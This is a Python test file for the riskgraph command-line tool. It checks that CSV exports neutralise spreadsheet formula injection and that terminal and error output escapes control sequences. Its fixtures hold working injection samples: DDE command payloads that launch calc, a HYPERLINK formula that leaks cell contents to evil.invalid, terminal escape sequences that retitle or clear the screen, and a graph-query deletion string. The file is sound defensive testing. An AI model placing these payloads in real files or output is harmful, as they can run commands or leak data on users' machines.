"""Issue 10, item 5: user text cannot drive the programs riskgraph's output reaches.

* Spreadsheets: every CSV riskgraph writes (``export csv``, ``shock``/``paths``/``data``/``show``/
  ``sparql``/``bulk-shock --format csv``) starts a cell that a spreadsheet would evaluate
  (``=``, ``+``, ``-``, ``@``, tab, CR, after blanks and quotes) with ``'`` (OWASP); plain
  numbers stay numbers; ``read_csv`` gives the original text back.
* Terminals: escape sequences in names and sources print as visible ``\\x1b`` escapes in tables,
  lines and error messages; JSON escapes C1 controls too.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from riskgraph.cli.app import app

from .conftest import LINK_HEADER, NODE_HEADER, write_dir

runner = CliRunner()

FORMULA = "=cmd|' /C calc'!A0"
HYPERLINK = '+HYPERLINK("http://evil.invalid/?x="&A1,"click")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
ESC_NAME = "Evil\x1b]0;pwned\x07\x1b[2J Corp\x9b31m\u202e"
ESC_SOURCE = "ledger\x1b[31m red \x1b[5m"
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")


def _q(s: str) -> str:
    return '"' + s.replace('"', '""') + '"'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    nodes = NODE_HEADER + "".join([
        f"company:formula-a,company,{_q(FORMULA)},,network,,{_q(HYPERLINK)},2025,reported,\n",
        f"company:formula-b,company,{_q(AT)},,network,,{_q(MINUS)},2025,reported,\n",
        f"company:esc-corp,company,{_q(ESC_NAME)},,network,,{_q(ESC_SOURCE)},2025,reported,\n",
    ])
    links = LINK_HEADER + "".join([
        f"mineral:gallium,company:formula-a,INPUT_TO,0.9,0.8,1,,0,{_q(AT)},2025,estimated,"
        f"{_q(FORMULA)}\n",
        f"mineral:gallium,company:formula-b,INPUT_TO,0.8,0.7,0.9,,0,{_q(HYPERLINK)},2025,"
        f"estimated,x\n",
        f"mineral:gallium,company:esc-corp,INPUT_TO,0.7,0.6,0.8,,0,{_q(ESC_SOURCE)},2025,"
        f"estimated,{_q(ESC_NAME)}\n",
    ])
    return write_dir(tmp_path_factory.mktemp("injection"), nodes, links)


def run(*args: str) -> tuple[int, str, str]:
    r = runner.invoke(app, list(args))
    if r.exception is not None and not isinstance(r.exception, SystemExit):
        raise AssertionError(f"uncaught {type(r.exception).__name__}: {r.exception}")
    return r.exit_code, r.stdout, r.stderr


def _ok(*args: str) -> str:
    code, out, err = run(*args)
    assert code == 0, err
    return out


def _number(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True


def _assert_no_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            first = cell.lstrip(" '\"")[:1]
            if first and first in "=+-@\t\r" and not _number(cell):
                assert cell.startswith("'"), f"formula reaches the spreadsheet: {cell!r}"
    return rows


def _cells(rows: list[list[str]]) -> set[str]:
    return {c for r in rows for c in r}


def _starts(rows: list[list[str]], *texts: str) -> None:
    """Each text begins some cell, neutralised (sources carry a file and line suffix)."""
    cells = _cells(rows)
    for t in texts:
        assert any(c.startswith("'" + t) for c in cells), f"no cell starts with '{t}"


def test_export_csv_neutralises_formulas_and_reads_back(tmp_path: Path, hostile: Path) -> None:
    from riskgraph.export.tabular import read_csv

    out = tmp_path / "out"
    _ok("export", "csv", str(out), "--data-dir", str(hostile))
    nodes = _assert_no_formula((out / "nodes.csv").read_text(encoding="utf-8"))
    edges = _assert_no_formula((out / "edges.csv").read_text(encoding="utf-8"))
    _starts(nodes, FORMULA, AT, HYPERLINK, MINUS)
    _starts(edges, AT, HYPERLINK)
    back = read_csv(out)
    assert back.nodes["company:formula-a"].name == FORMULA
    assert back.nodes["company:formula-a"].source.startswith(HYPERLINK)
    assert back.nodes["company:formula-b"].source.startswith(MINUS)
    assert back.nodes["company:esc-corp"].name == ESC_NAME  # files keep user text verbatim


def test_shock_csv_neutralises_formulas(hostile: Path) -> None:
    rows = _assert_no_formula(_ok("shock", "gallium", "--pct", "50", "--top", "400",
                                  "--format", "csv", "--data-dir", str(hostile)))
    cells = _cells(rows)
    assert "'" + FORMULA in cells and "'" + AT in cells
    assert "'Gallium -> " + FORMULA not in cells  # a path starts with a name, not a formula
    assert "Gallium -> " + FORMULA in cells


def test_paths_csv_neutralises_formulas(hostile: Path) -> None:
    rows = _assert_no_formula(_ok("paths", "gallium", "company:formula-a", "--format", "csv",
                                  "--data-dir", str(hostile)))
    _starts(rows, AT)  # the hop's source


def test_show_csv_neutralises_formulas(hostile: Path) -> None:
    rows = _assert_no_formula(_ok("show", "gallium", "--format", "csv", "--data-dir",
                                  str(hostile)))
    _starts(rows, FORMULA, AT, HYPERLINK)


def test_data_csv_neutralises_formulas(tmp_path: Path) -> None:
    d = write_dir(tmp_path / "=HYPERLINK(x)")
    rows = _assert_no_formula(_ok("data", "--format", "csv", "--data-dir", str(d)))
    assert any(c.startswith("User data: ") for c in _cells(rows))


def test_sparql_csv_neutralises_formulas(hostile: Path) -> None:
    rows = _assert_no_formula(_ok("sparql", "node-suppliers", "--param",
                                  "node=company:formula-a", "--format", "csv", "--data-dir",
                                  str(hostile)))
    assert len(rows) >= 2


def test_bulk_shock_csv_is_real_csv(tmp_path: Path) -> None:
    nodes = NODE_HEADER + "".join([
        "mineral:m1,mineral,M1,,,,ledger,2025,reported,\n",
        "company:a-b,company,\"A, B\",,network,,ledger,2025,reported,\n",
    ])
    links = LINK_HEADER + "mineral:m1,company:a-b,INPUT_TO,0.9,0.8,1,,0,ledger,2025,estimated,x\n"
    d = write_dir(tmp_path / "bulk", nodes, links)
    rows = list(csv.reader(io.StringIO(_ok("bulk-shock", str(d), "mineral:m1", "--pct",
                                            "50", "--format", "csv"))))
    assert rows[0] == ["rank", "id", "shortfall"]
    assert rows[1:] == [["1", "mineral:m1", "0.500000"], ["2", "company:a-b", "0.450000"]]


# -- terminals ------------------------------------------------------------------------------------
def _no_raw_controls(text: str) -> None:
    for c in RAW_CONTROLS:
        assert c not in text, f"raw {c!r} reaches the terminal"


def test_shock_table_escapes_control_characters(hostile: Path) -> None:
    out = _ok("shock", "gallium", "--pct", "50", "--top", "400", "--data-dir", str(hostile))
    _no_raw_controls(out)
    assert "Evil\\x1b]0;pwned\\x07" in out  # the name column is cut to 28 characters


def test_paths_table_escapes_control_characters(hostile: Path) -> None:
    out = _ok("paths", "gallium", "company:esc-corp", "--data-dir", str(hostile))
    _no_raw_controls(out)
    assert "ledger\\x1b[31m red" in out


def test_show_table_escapes_control_characters(hostile: Path) -> None:
    out = _ok("show", "company:esc-corp", "--data-dir", str(hostile))
    _no_raw_controls(out)
    assert "source: ledger\\x1b[31m red \\x1b[5m" in out
    out = _ok("show", "gallium", "--data-dir", str(hostile))
    _no_raw_controls(out)


def test_sparql_table_escapes_control_characters(hostile: Path) -> None:
    out = _ok("sparql", "node-suppliers", "--param", "node=company:esc-corp", "--data-dir",
              str(hostile))
    _no_raw_controls(out)


def test_error_messages_are_one_escaped_line(tmp_path: Path) -> None:
    code, _, err = run("show", "\x1b[2Jghost\nsecond line")
    assert code == 2
    assert err == "Error: unknown node '\\x1b[2Jghost\\nsecond line'\n"
    odd = tmp_path / "x\x1b]0;pwned\x07\nline"
    code, _, err = run("data", "--data-dir", str(odd))
    assert code == 3
    assert err == (f"Error: {tmp_path}/x\\x1b]0;pwned\\x07\\x0aline: user data directory does "
                   "not exist\n")


def test_json_output_escapes_c1_controls(hostile: Path) -> None:
    out = _ok("show", "company:esc-corp", "--format", "json", "--data-dir", str(hostile))
    _no_raw_controls(out)
    assert json.loads(out)["name"] == ESC_NAME  # the same document, only escaped


def test_text_helpers_are_exact() -> None:
    from riskgraph.graph.text import csv_cell, csv_uncell, terminal_text

    assert csv_cell(FORMULA) == "'" + FORMULA
    assert csv_cell(" =1+1") == "' =1+1"
    assert csv_cell('"=1') == "'\"=1"
    assert csv_cell("\t=1") == "'\t=1"
    assert csv_cell("-0.5") == "-0.5" and csv_cell("1e-3") == "1e-3"
    assert csv_cell("Gallium") == "Gallium"
    assert csv_cell("'}) DETACH DELETE n //") == "'}) DETACH DELETE n //"
    for s in (FORMULA, "'" + FORMULA, "''=x", "-0.5", "'-0.5", "", "'", "x"):
        assert csv_uncell(csv_cell(s)) == s
    assert terminal_text("a\x1b[31mb\nc") == "a\\x1b[31mb\nc"
    assert terminal_text("a\nb\rc", newlines=False) == "a\\x0ab\\x0dc"
    assert terminal_text("\x9b\u202e") == "\\x9b\\u202e"
